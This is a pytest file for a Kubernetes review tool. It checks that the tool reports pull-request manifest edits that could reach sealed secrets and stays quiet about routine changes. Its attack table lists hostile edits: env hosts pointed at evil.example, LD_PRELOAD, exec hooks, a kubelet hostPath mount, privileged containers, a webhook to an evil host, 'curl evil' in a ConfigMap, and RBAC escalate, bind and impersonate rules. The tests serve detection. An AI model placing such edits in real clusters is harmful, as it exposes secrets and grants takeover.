"""What a stranger's pull request can do in the public half to come to a sealed value: each is told. What a person changes every day
says little or nothing."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from sealkit.model.objects import Manifest, ref_of
from sealkit.model.sensitive import Origin, Sensitive
from sealkit.overlay.destinations import Reach, SecretAccess
from sealkit.overlay.meaning import meaning
from sealkit.overlay.reach import NODE, reaches
from sealkit.overlay.render import Rendered
from sealkit.yamlspan.route import Route

Objects = dict[str, Any]
RBAC = "rbac.authorization.k8s.io"


def obj(api: str, kind: str, name: str, **more: Any) -> Any:
    return {"apiVersion": api, "kind": kind, "metadata": {"name": name}, **more}


def sealed(path: str = "private/a.yaml", route: str = ".k") -> Sensitive:
    return Sensitive("x", origins=(Origin(path, Route.parse(route)),))


def pod(**more: Any) -> Any:
    app = {"name": "app", "image": "reg/app:1", "env": [{"name": "DB_HOST", "value": "db"}],
           "envFrom": [{"secretRef": {"name": "db"}}, {"configMapRef": {"name": "conf"}}]}  # fmt: skip
    return {"containers": [app], **more}


def app_objects() -> Objects:
    return {
        "db": obj("v1", "Secret", "db", data={"k": sealed()}, stringData={"host": "db"}),
        "conf": obj("v1", "ConfigMap", "conf", data={"init.sh": "exec app"}),
        "app": obj("apps/v1", "Deployment", "app", spec={"replicas": 1, "template": {"spec": pod()}}),
        "role": obj(f"{RBAC}/v1", "Role", "r", rules=[{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}]),
        "binding": obj(
            f"{RBAC}/v1", "RoleBinding", "b", roleRef={"kind": "Role", "name": "r"},
            subjects=[{"kind": "ServiceAccount", "name": "reader"}],
        ),
        "repo": obj("source.example/v1", "GitRepository", "repo",
                    spec={"url": "https://git.example", "secretRef": {"name": "token"}}),
    }  # fmt: skip


def manifests(objects: Objects) -> list[Manifest]:
    return [Manifest(ref_of(body), body["apiVersion"], body, "public/a.yaml", 1) for body in objects.values()]


def told(objects: Objects) -> set[Reach | SecretAccess]:
    return set(reaches(manifests(objects), "shop"))


def lines(edit: Callable[[Objects], Any]) -> list[str]:
    objects = app_objects()
    edit(objects)
    return meaning(Rendered(manifests(app_objects()), namespace="shop"), Rendered(manifests(objects), namespace="shop"))


def spec(objects: Objects) -> Any:
    return objects["app"]["spec"]["template"]["spec"]


def app(objects: Objects) -> Any:
    return spec(objects)["containers"][0]


def evil(objects: Objects, body: Any, kind: str = "Deployment") -> None:
    objects["evil"] = obj("apps/v1", kind, "evil", spec={"template": {"spec": body}})


ATTACKS: dict[str, Callable[[Objects], Any]] = {
    "another host in the environment": lambda o: app(o)["env"][0].update(value="evil.example"),
    "a library to load": lambda o: app(o)["env"].append({"name": "LD_PRELOAD", "value": "/x.so"}),
    "a hook": lambda o: app(o).update(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}),
    "a probe": lambda o: app(o).update(livenessProbe={"exec": {"command": ["sh"]}}),
    "a mount over the entry point": lambda o: (
        app(o).update(volumeMounts=[{"name": "v", "mountPath": "/bin"}]),
        spec(o).update(volumes=[{"name": "v", "emptyDir": {}}]),
    ),
    "another volume under the same mount": lambda o: (
        app(o).update(volumeMounts=[{"name": "v", "mountPath": "/bin"}]),
        spec(o).update(volumes=[{"name": "v", "nfs": {"server": "evil"}}]),
    ),
    "a script in a ConfigMap": lambda o: o["conf"]["data"].update({"init.sh": "curl evil"}),
    "a host in the open half of a Secret": lambda o: o["db"]["stringData"].update(host="evil"),
    "an annotation of a replicator": lambda o: o["db"]["metadata"].update(annotations={"replicate-to": "*"}),
    "a label that a controller acts on": lambda o: o["db"]["metadata"].update(labels={"secret-type": "repository"}),
    "another type of Secret": lambda o: o["db"].update(type="x"),
    "another address for a name": lambda o: spec(o).update(hostAliases=[{"ip": "6.6.6.6", "hostnames": ["db"]}]),
    "another name server": lambda o: spec(o).update(dnsPolicy="None", dnsConfig={"nameservers": ["6.6.6.6"]}),
    "a neighbour in the process namespace": lambda o: (
        spec(o).update(shareProcessNamespace=True),
        spec(o)["containers"].append({"name": "evil", "image": "evil"}),
    ),
    "a Secret that another target holds": lambda o: evil(
        o, {"containers": [{"name": "e", "image": "e", "envFrom": [{"secretRef": {"name": "elsewhere"}}]}]}
    ),
    "an init container alone": lambda o: evil(
        o, {"initContainers": [{"name": "e", "image": "e", "envFrom": [{"secretRef": {"name": "db"}}]}]}
    ),
    "a container without an image": lambda o: evil(
        o, {"containers": [{"name": "e", "envFrom": [{"secretRef": {"name": "db"}}]}]}, "Whatever"
    ),
    "an account that may read Secrets": lambda o: evil(
        o, {"serviceAccountName": "reader", "containers": [{"name": "e", "image": "e"}]}
    ),
    "the folder of the kubelet": lambda o: evil(
        o,
        {
            "containers": [{"name": "e", "image": "e", "volumeMounts": [{"name": "v", "mountPath": "/v"}]}],
            "volumes": [{"name": "v", "hostPath": {"path": "/var/lib/kubelet"}}],
        },
    ),
    "a privileged container": lambda o: evil(
        o, {"containers": [{"name": "e", "image": "e", "securityContext": {"privileged": True}}]}
    ),
    "another URL beside a reference": lambda o: o["repo"]["spec"].update(url="https://evil.example"),
    "a resource that pushes a Secret": lambda o: o.update(
        push=obj("external-secrets.io/v1", "PushSecret", "p", spec={"selector": {"secret": {"name": "db"}}})
    ),
    "a chart that takes a Secret by name": lambda o: o.update(
        chart=obj("helm.example/v2", "HelmRelease", "h", spec={"values": {"auth": {"existingSecret": "db"}}})
    ),
    "an annotation that names a Secret": lambda o: o.update(
        web={
            **obj("networking.k8s.io/v1", "Ingress", "w"),
            "metadata": {"name": "w", "annotations": {"ingress.example/auth-secret": "shop/db"}},
        }
    ),
    "a webhook": lambda o: o.update(
        hook=obj(
            "admissionregistration.k8s.io/v1",
            "ValidatingWebhookConfiguration",
            "h",
            webhooks=[{"clientConfig": {"url": "https://evil"}, "rules": [{"resources": ["*"], "operations": ["*"]}]}],
        )
    ),
    "a role aggregated to view": lambda o: o.update(
        agg={
            **obj(
                f"{RBAC}/v1",
                "ClusterRole",
                "agg",
                rules=[{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}],
            ),
            "metadata": {"name": "agg", "labels": {f"{RBAC}/aggregate-to-view": "true"}},
        }
    ),
    "a role whose binding is elsewhere": lambda o: o.update(
        loose=obj(
            f"{RBAC}/v1", "ClusterRole", "loose", rules=[{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]
        )
    ),
    **{
        f"a rule for {resource}": (
            lambda o, group=group, resource=resource, verb=verb: o["role"]["rules"].append(
                {"apiGroups": [group], "resources": [resource], "verbs": [verb]}
            )
        )
        for group, resource, verb in [
            ("", "pods/exec", "create"),
            ("", "serviceaccounts/token", "create"),
            ("", "pods", "create"),
            (RBAC, "clusterroles", "escalate"),
            (RBAC, "roles", "bind"),
            ("", "users", "impersonate"),
            ("apps", "*", "patch"),
        ]
    },
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_told(name: str) -> None:
    found = lines(ATTACKS[name])
    assert any(not line.startswith("image tag of") and "no longer" not in line for line in found), name


EVERY_DAY: dict[str, tuple[Callable[[Objects], Any], list[str]]] = {
    "another tag": (
        lambda o: app(o).update(image="reg/app:2@sha256:aa"),
        ["image tag of container app of Deployment shop/app: 1 -> 2@sha256:aa"],
    ),
    "resources": (lambda o: app(o).update(resources={"limits": {"memory": "1Gi"}}), []),
    "replicas": (lambda o: o["app"]["spec"].update(replicas=3), []),
    "a port that is named": (lambda o: app(o).update(ports=[{"containerPort": 80}]), []),
    "where it runs": (
        lambda o: spec(o).update(nodeSelector={"disk": "ssd"}),
        ['Deployment shop/app runs on other nodes: .nodeSelector ({"disk": "ssd"})'],
    ),
    "the version in a label": (lambda o: o["db"]["metadata"].update(labels={"app.kubernetes.io/version": "2"}), []),
    "a workload that gets nothing": (
        lambda o: evil(o, {"containers": [{"name": "e", "image": "e"}]}),
        ["Deployment shop/evil added", "container e of Deployment shop/evil is new: image e"],
    ),
    "a neighbour that gets nothing": (
        lambda o: spec(o)["containers"].append({"name": "side", "image": "side"}),
        ["container side of Deployment shop/app is new: image side"],
    ),
}


@pytest.mark.parametrize("name", EVERY_DAY)
def test_what_changes_every_day_says_little(name: str) -> None:
    edit, expected = EVERY_DAY[name]
    assert lines(edit) == expected


def test_reaches_do_not_depend_on_a_value() -> None:
    one, two = app_objects(), app_objects()
    app(one)["env"].append({"name": "T", "value": Sensitive("a", origins=(Origin("p", Route()),))})
    app(two)["env"].append({"name": "T", "value": Sensitive("b", origins=(Origin("p", Route()),))})
    assert told(one) == told(two)


def test_who_reaches_the_node_is_said() -> None:
    objects = app_objects()
    ATTACKS["the folder of the kubelet"](objects)
    assert [e.container for e in told(objects) if isinstance(e, Reach) and e.origin == NODE] == ["e"]
